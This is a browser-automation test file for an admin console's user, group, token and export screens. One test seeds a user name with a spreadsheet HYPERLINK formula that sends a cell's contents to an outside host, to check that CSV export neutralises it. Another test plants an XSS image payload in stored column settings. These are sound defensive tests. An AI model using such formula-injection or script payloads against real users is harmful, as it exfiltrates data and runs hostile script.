import { readFile } from 'node:fs/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { createDatabase, deleteDatabase } from '../database-tokens/documents.ts'
import type { TestAccount } from '../gateway.ts'
import { makeGroup } from '../groups/custom-groups.ts'
import { idOfCopy } from '../id-of-copy.ts'
import { useWorld } from '../world.ts'
import { barriers } from './axe.ts'
import { openBrowser, visitAs } from './browser.ts'
import { presses } from './presses.ts'
import { act } from './rows.ts'

const formula = '=HYPERLINK("https://example.net/?"&A1,"look")'

const { gateway } = useWorld()
let browser: Browser

beforeAll(async () => {
  browser = await openBrowser()
})
afterAll(() => browser?.close())

/** Members, written past the gateway because there are many. */
async function crowd(account: TestAccount, count: number, name: (at: number) => string): Promise<void> {
  const { id } = account.admin
  const { db } = gateway
  const admin = await db.selectFrom('users').selectAll().where('id', '=', id).executeTakeFirstOrThrow()
  const membership = await db.selectFrom('user_groups').selectAll().where('user_id', '=', id).executeTakeFirstOrThrow()
  const people = Array.from({ length: count }, (_, at) => {
    const email = `p${String(at).padStart(5, '0')}@example.com`
    const own = { id: idOfCopy(id, at), email, name: name(at), folded_name: name(at) }
    return { ...admin, ...own, last_sign_in_at: null }
  })
  for (let from = 0; from < count; from += 500) {
    const some = people.slice(from, from + 500)
    await db.insertInto('users').values(some).execute()
    const groupId = account.groupIds.member
    const rows = some.map((person) => ({ ...membership, user_id: person.id, group_id: groupId }))
    await db.insertInto('user_groups').values(rows).execute()
  }
}

const groupsOf = async (account: TestAccount): Promise<Record<string, string[]>> => {
  const { users } = await account.admin.run('{ users(first: 100) { nodes { email groups { key } } } }')
  return Object.fromEntries(
    users.nodes.map(({ email, groups }: { email: string; groups: { key: string }[] }) => [
      email,
      groups.map(({ key }) => key),
    ]),
  )
}

it('moves a person to another group by three presses, and back by Undo; a move to Admin is asked about first', async () => {
  const account = await gateway.account('Moving')
  const kim = await account.join('kim@example.com', ['member'])
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  await goto('/')
  const pressed = presses(page)
  await pressed.press('Users', 'link')
  await pressed.press('Groups of kim: Member')
  await pressed.press('Auditor', 'menuitem')
  expect(pressed.count).toBe(3)
  // An Auditor may do what a Member may not: it ends the session of kim.
  const signsIn = 'Their session ended: they sign in again, and a mail tells them.'
  await page.getByText(`kim is in Auditor now, no longer in Member. ${signsIn}`).waitFor()
  expect((await groupsOf(account))['kim@example.com']).toEqual(['auditor'])
  expect(await kim.run('{ viewer { permissions } }').catch(({ code }) => code)).toBe('UNAUTHENTICATED')
  await page.getByRole('button', { name: 'Undo' }).dblclick()
  await page.getByText('Taken back. The sessions that had ended stay so. A mail tells them.').waitFor()
  expect((await groupsOf(account))['kim@example.com']).toEqual(['member'])
  expect(await page.getByText('It has changed since').count()).toBe(0)

  // Without a session, there is none to end.
  await page.getByRole('button', { name: 'Groups of kim: Member' }).click()
  await page.getByRole('menuitem', { name: 'Auditor' }).click()
  await page.getByText('kim is in Auditor now, no longer in Member. A mail tells them.').waitFor()
  await page.getByRole('button', { name: 'Undo' }).last().click()
  await page.getByText('Taken back. A mail tells them.').waitFor()

  await page.getByRole('button', { name: 'Groups of kim: Member' }).press('Enter')
  await page.getByRole('menuitem', { name: 'Admin' }).press('Enter')
  const dialog = page.getByRole('dialog', { name: 'Change the groups of kim' })
  await dialog.getByRole('checkbox', { name: 'Admin', checked: true }).waitFor()
  expect((await groupsOf(account))['kim@example.com']).toEqual(['member'])
  await dialog.getByRole('button', { name: 'Change the groups' }).click()
  await page.getByRole('button', { name: 'Groups of kim: Admin' }).waitFor()
  expect(complaints).toEqual([])
})

it('offers Undo for as long as the focus is on it, and takes back by its keys', async () => {
  const account = await gateway.account('Undoing')
  for (const name of ['kim', 'lee', 'mo']) await account.join(`${name}@example.com`, ['member'])
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  await page.clock.install()
  await goto('/users')
  const move = async (name: string) => {
    await page.getByRole('button', { name: `Groups of ${name}: Member` }).press('Enter')
    await page.getByRole('menuitem', { name: 'Auditor' }).press('Enter')
    await page.getByText(`${name} is in Auditor now`).waitFor()
    await page.getByRole('menu').waitFor({ state: 'detached' })
  }
  const undo = page.getByRole('button', { name: 'Undo' })
  await move('kim')
  await undo.focus()
  await page.clock.fastForward('02:00')
  expect(await undo.count()).toBe(1)
  await undo.press('Shift+Tab')
  await page.clock.fastForward('00:20')
  expect(await undo.count()).toBe(1)
  await page.clock.fastForward('00:20')
  await undo.waitFor({ state: 'detached' })
  expect((await groupsOf(account))['kim@example.com']).toEqual(['auditor'])

  await move('lee')
  await move('mo')
  await page.keyboard.press('Control+z')
  await page.getByRole('button', { name: 'Groups of mo: Member' }).waitFor()
  expect(await groupsOf(account)).toMatchObject({ 'lee@example.com': ['auditor'], 'mo@example.com': ['member'] })
  await page.keyboard.press('Control+z')
  await page.getByRole('button', { name: 'Groups of lee: Member' }).waitFor()
  expect(complaints).toEqual([])
})

it('moves five people by six presses, and tells of each who could not be changed', async () => {
  const account = await gateway.account('Five')
  for (let at = 1; at <= 5; at++) await account.join(`p${at}@example.com`, ['member'])
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  await goto('/')
  const pressed = presses(page)
  await pressed.press('Users', 'link')
  await pressed.press('Select p1', 'checkbox')
  await pressed.press('Select p5', 'checkbox', ['Shift'])
  await page.getByRole('group', { name: 'Selected: Users' }).getByText('5 selected').waitFor()
  expect(await barriers(page)).toEqual([])
  await pressed.press('Change groups')
  await pressed.press('Auditor', 'menuitem')
  await page
    .getByRole('dialog', { name: 'Change the groups of 5 users' })
    .getByText(/^Mails go to p1@/)
    .waitFor()
  expect(await barriers(page)).toEqual([])
  await pressed.press('Change the groups')
  await page.getByText('5 changed.').waitFor()
  expect(pressed.count).toBe(6)
  const { 'ada@example.com': ada, ...five } = await groupsOf(account)
  expect([ada, ...Object.values(five)]).toEqual([['admin'], ...Array(5).fill(['auditor'])])
  await page.getByText('5 selected').first().waitFor({ state: 'detached' })
  // What is chosen next is what the list shows, which is read anew after a change.
  await expect.poll(() => page.getByRole('button', { name: /^Groups of p\d: Auditor$/ }).count()).toBe(5)

  // The last Admin stays one.
  await page.getByRole('checkbox', { name: 'Select all on this page' }).press('Space')
  await page.getByRole('button', { name: 'Deactivate' }).click()
  const dialog = page.getByRole('dialog', { name: 'Deactivate 6 users' })
  await dialog.getByText('ada@example.com would be refused: This is the last active Admin').waitFor()
  await dialog.getByRole('button', { name: 'Deactivate' }).click()
  const alert = dialog.getByRole('alert')
  await alert.getByText('5 deactivated, 1 refused').waitFor()
  expect(await alert.textContent()).toContain('ada@example.com: This is the last active Admin')
  await dialog.getByRole('button', { name: 'Close' }).last().click()
  await page.getByRole('group', { name: 'Selected: Users' }).getByText('1 selected').waitFor()
  expect(complaints).toEqual([])
})

it('adds several people to a group, and leaves those as they are of which only some are in another', async () => {
  const account = await gateway.account('Mixed')
  await account.join('p1@example.com', ['member'])
  await account.join('p2@example.com', ['member', 'auditor'])
  const { page, goto } = await visitAs(browser, gateway, account.admin, { width: 375 })
  await goto('/users?search=p')
  await page.getByRole('checkbox', { name: 'Select p1' }).click()
  await page.getByRole('checkbox', { name: 'Select p2' }).click()
  await page.getByRole('button', { name: 'Change groups' }).click()
  await page.getByRole('menuitem', { name: 'Several groups…' }).click()
  const dialog = page.getByRole('dialog', { name: 'Change the groups of 2 users' })
  await dialog.getByText('Some of them are in it.').waitFor()
  expect(await dialog.getByRole('button', { name: 'Change the groups' }).isDisabled()).toBe(true)
  await dialog.getByRole('checkbox', { name: 'Admin' }).check()
  await dialog.getByRole('button', { name: 'Change the groups' }).click()
  await page.getByText('2 changed.').waitFor()
  const groups = await groupsOf(account)
  expect(groups['p1@example.com']?.toSorted()).toEqual(['admin', 'member'])
  expect(groups['p2@example.com']?.toSorted()).toEqual(['admin', 'auditor', 'member'])
  expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(375)
})

it('removes a person by three presses and the typed name', async () => {
  const account = await gateway.account('Removing')
  await account.join('kim@example.com', ['member'])
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  await goto('/')
  const pressed = presses(page)
  await pressed.press('Users', 'link')
  await pressed.press('Actions for kim')
  await pressed.press('Remove', 'menuitem')
  expect(pressed.count).toBe(3)
  const dialog = page.getByRole('dialog', { name: 'Remove the user?' })
  await dialog.getByRole('list', { name: 'What would happen' }).waitFor()
  await page.keyboard.type('kim@example.com')
  await page.keyboard.press('Enter')
  await page.getByText('Removed.').waitFor()
  await page.getByRole('link', { name: 'kim' }).waitFor({ state: 'detached' })
  expect(complaints).toEqual([])
})

it('shows the columns that a person has chosen, keeps them for the person and the list, and heeds nothing hostile', async () => {
  const account = await gateway.account('Columns')
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  const titles = () => page.getByRole('columnheader').allTextContents()
  await goto('/users')
  await page.getByRole('button', { name: 'Columns' }).press('Enter')
  expect(await barriers(page)).toEqual([])
  await page.getByRole('menuitemcheckbox', { name: 'Last sign-in' }).press('Enter')
  await page.getByRole('menuitemcheckbox', { name: 'Joined' }).press('Enter')
  await page.keyboard.press('Escape')
  await expect.poll(titles).toEqual(['', 'Name', 'E-mail', 'Groups', 'Status', 'Joined', 'Actions'])
  await page.reload()
  await expect.poll(titles).toEqual(['', 'Name', 'E-mail', 'Groups', 'Status', 'Joined', 'Actions'])
  await goto('/invitations')
  await expect.poll(titles).toEqual(['E-mail', 'Groups', 'Status', 'Expires', 'Delivery', 'Invited'])

  const key = `clustergate:${account.admin.id}:columns:Users`
  for (const kept of ['not json {', '{"name":1}', '["<img src=x onerror=alert(1)>","__proto__",7]', '"status"']) {
    await page.evaluate(`localStorage.setItem(${JSON.stringify(key)}, ${JSON.stringify(kept)})`)
    await goto('/users')
    await expect
      .poll(titles, { message: kept })
      .toEqual(['', 'Name', 'E-mail', 'Groups', 'Status', 'Last sign-in', 'Actions'])
  }
  // Names that are none of the list are left out.
  await page.evaluate(
    `localStorage.setItem(${JSON.stringify(key)}, '["-email","-groups","-lastSignIn","<b>","-name"]')`,
  )
  await goto('/users')
  await expect.poll(titles).toEqual(['', 'Name', 'Status', 'Actions'])
  await page.getByRole('button', { name: 'Columns' }).click()
  await page.getByRole('menuitem', { name: 'Usual columns' }).click()
  await expect.poll(titles).toEqual(['', 'Name', 'E-mail', 'Groups', 'Status', 'Last sign-in', 'Actions'])
  expect(complaints).toEqual([])
})

it('keeps what was chosen of columns that a list has under another filter only', async () => {
  const account = await gateway.account('Columns elsewhere')
  const id = await createDatabase(account, 'gone')
  await deleteDatabase(account, id, 'gone')
  await createDatabase(account, 'kept')
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  const choose = async (title: string) => {
    await page.getByRole('button', { name: 'Columns' }).click()
    await page.getByRole('menuitemcheckbox', { name: title }).click()
    await page.keyboard.press('Escape')
  }
  const heading = (name: string) => page.getByRole('columnheader', { name })
  await goto('/databases')
  await choose('Labels')
  await heading('Labels').waitFor({ state: 'detached' })
  await goto('/databases?status=DELETED')
  await heading('Undelete until').waitFor()
  await choose('Undelete until')
  await heading('Undelete until').waitFor({ state: 'detached' })
  await goto('/databases')
  await choose('Retention')
  await goto('/databases?status=DELETED')
  await heading('Status').waitFor()
  expect(await page.getByRole('columnheader').allTextContents()).toEqual(['Name', 'Cluster', 'Status', 'Actions'])
  expect(complaints).toEqual([])
})

async function exported(page: Page, format: string): Promise<string> {
  await page.getByRole('button', { name: 'Export' }).click()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: format, exact: true }).click(),
  ])
  return readFile(await download.path(), 'utf8')
}

it('exports all groups, with the number of their members', async () => {
  const account = await gateway.account('Grouped')
  await account.join('mo@example.com', ['member', 'auditor'])
  for (let at = 0; at < 12; at++) await makeGroup(account.admin, `shift-${at}`, {})
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  await goto('/groups')
  const lines = (await exported(page, 'CSV')).trimEnd().split('\r\n')
  expect(lines[0]).toBe('id,name,description,kind,counts,grants,key,members')
  expect(lines).toHaveLength(1 + 3 + 12)
  const columnsOf = (key: string) => lines.find((line) => line.includes(`,${key},`))?.split(',')
  expect(columnsOf('auditor')?.at(-1)).toBe('1')
  expect(columnsOf('shift-11')?.slice(-2)).toEqual(['shift-11', '0'])
  expect(complaints).toEqual([])
})

it('exports what the filter selects, in the order of the list, and no cell of the CSV is a formula', async () => {
  const account = await gateway.account('Exported')
  await crowd(account, 120, (at) => (at === 0 ? formula : `Person ${at}`))
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  await goto('/users?search=p0&order=-email')
  await page.getByText('120 in total').waitFor()
  const lines = (await exported(page, 'CSV')).trimEnd().split('\r\n')
  expect(lines[0]).toBe('id,name,email,groups,status,lastSignIn,joined,attributes')
  expect(lines).toHaveLength(121)
  expect(lines[1]).toContain(',Person 119,p00119@example.com,Member,Active,')
  // Those who do not see the file arrive are told.
  await page.getByRole('status').getByText('Exported 120 users.').waitFor({ state: 'attached' })
  expect(lines[120]).toContain(`,"'${formula.replaceAll('"', '""')}",p00000@example.com,`)

  await goto('/users?search=p0000')
  await page.getByText('10 in total').waitFor()
  const users = JSON.parse(await exported(page, 'JSON'))
  expect(users).toHaveLength(10)
  expect(users[0]).toMatchObject({ name: formula, email: 'p00000@example.com', status: 'ACTIVE' })
  expect(complaints).toEqual([])
})

it('shows ten thousand users by pages of twenty, each by one request', { timeout: 120_000 }, async () => {
  const account = await gateway.account('Crowded')
  await crowd(account, 10_000, (at) => `Person ${at}`)
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  const asked: string[] = []
  page.on('request', (request) => {
    const query = /query (\w+)/.exec(request.postData() ?? '')?.[1]
    if (query) asked.push(query)
  })
  await goto('/users')
  await page.getByText('10,001 in total').waitFor()
  const rows = () => page.getByRole('table', { name: 'Users' }).getByRole('row').count()
  expect(await rows()).toBe(21)
  for (let at = 1; at <= 3; at++) {
    asked.length = 0
    await page.getByRole('link', { name: 'Next' }).click()
    await page.getByRole('link', { name: `Person ${20 * at}`, exact: true }).waitFor()
    expect(await rows()).toBe(21)
    expect(asked).toEqual(['Users'])
  }
  // What was selected stays so on other pages, and is told.
  await page.getByRole('checkbox', { name: 'Select all on this page' }).check()
  await page.getByRole('link', { name: 'Next' }).click()
  await page.getByText('20 selected, 20 of them on other pages').waitFor()
  expect(complaints).toEqual([])
})

it('revokes the tokens that are selected, of both kinds', async () => {
  const account = await gateway.account('Revoking')
  for (const description of ['a', 'b', 'c']) {
    await account.admin.run(
      `mutation ($database: CreateDatabaseTokenInput!, $management: CreateManagementTokenInput!) {
        createDatabaseToken(input: $database) { token { id } } createManagementToken(input: $management) { token { id } } }`,
      {
        database: { clusterId: account.clusterIds[0], description, permissions: [] },
        management: { description, permissions: ['DATABASE_READ'] },
      },
    )
  }
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  for (const path of ['/database-tokens', '/management-tokens']) {
    await goto(`${path}?order=description`)
    await page.getByRole('checkbox', { name: 'Select a', exact: true }).click()
    await page.getByRole('checkbox', { name: 'Select b' }).click({ modifiers: ['Shift'] })
    await page.getByRole('button', { name: 'Revoke' }).click()
    const dialog = page.getByRole('dialog', { name: 'Revoke 2 tokens' })
    await dialog.getByText('a and b').waitFor()
    await dialog.getByRole('button', { name: 'Revoke' }).click()
    await page.getByText('2 revoked.').waitFor()
    await page.getByRole('checkbox', { name: 'Select a', exact: true }).waitFor({ state: 'detached' })
    await page.getByRole('checkbox', { name: 'Select c' }).waitFor()
  }
  // One alone is revoked from its menu.
  await act(page, 'c', 'Revoke')
  await page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click()
  await page.getByText('No active tokens yet.').waitFor()
  expect(complaints).toEqual([])
})

it('shows times by their distance or by the clock, as a person has chosen, and keeps the choice', async () => {
  const account = await gateway.account('Times')
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  await goto('/users')
  const time = page.getByRole('table', { name: 'Users' }).locator('time').first()
  await expect.poll(() => time.textContent()).toMatch(/now|ago/)
  // The log usually shows times by the clock, and the menu offers the other way.
  await goto('/audit')
  await page.getByRole('banner').getByRole('button', { name: 'Ada' }).click()
  await page.getByRole('menuitem', { name: 'Relative times' }).waitFor()
  await goto('/users')
  await page.getByRole('banner').getByRole('button', { name: 'Ada' }).click()
  await page.getByRole('menuitem', { name: 'Exact times' }).click()
  await expect.poll(() => time.textContent()).toMatch(/\d\d:\d\d/)
  await page.reload()
  await expect.poll(() => time.textContent()).toMatch(/\d\d:\d\d/)
  await page.getByRole('banner').getByRole('button', { name: 'Ada' }).press('Enter')
  await page.getByRole('menuitem', { name: 'Relative times' }).press('Enter')
  await expect.poll(() => time.textContent()).toMatch(/now|ago/)
  expect(complaints).toEqual([])
})

it('cuts long texts to a line, or wraps them in all lists, as a person has chosen; the keyboard stops at no time', async () => {
  const account = await gateway.account('Whole')
  const name = `Person ${'with a long name '.repeat(3)}`.trim()
  await crowd(account, 1, () => name)
  const { page, goto, complaints } = await visitAs(browser, gateway, account.admin)
  await goto('/users?search=p0')
  const link = page.getByRole('link', { name })
  await link.waitFor()
  const isCut = () => link.locator('xpath=..').evaluate((cell) => cell.scrollWidth > cell.clientWidth)
  expect(await isCut()).toBe(true)
  expect(await page.locator('time[tabindex]').count()).toBe(0)
  await page.getByRole('button', { name: 'Columns' }).press('Enter')
  await page.getByRole('menuitemcheckbox', { name: 'Wrap long texts' }).press('Enter')
  await page.keyboard.press('Escape')
  await expect.poll(isCut).toBe(false)
  await page.reload()
  await expect.poll(isCut).toBe(false)
  await goto(`/groups/${account.groupIds.member}`)
  await expect.poll(isCut).toBe(false)
  expect(complaints).toEqual([])
})
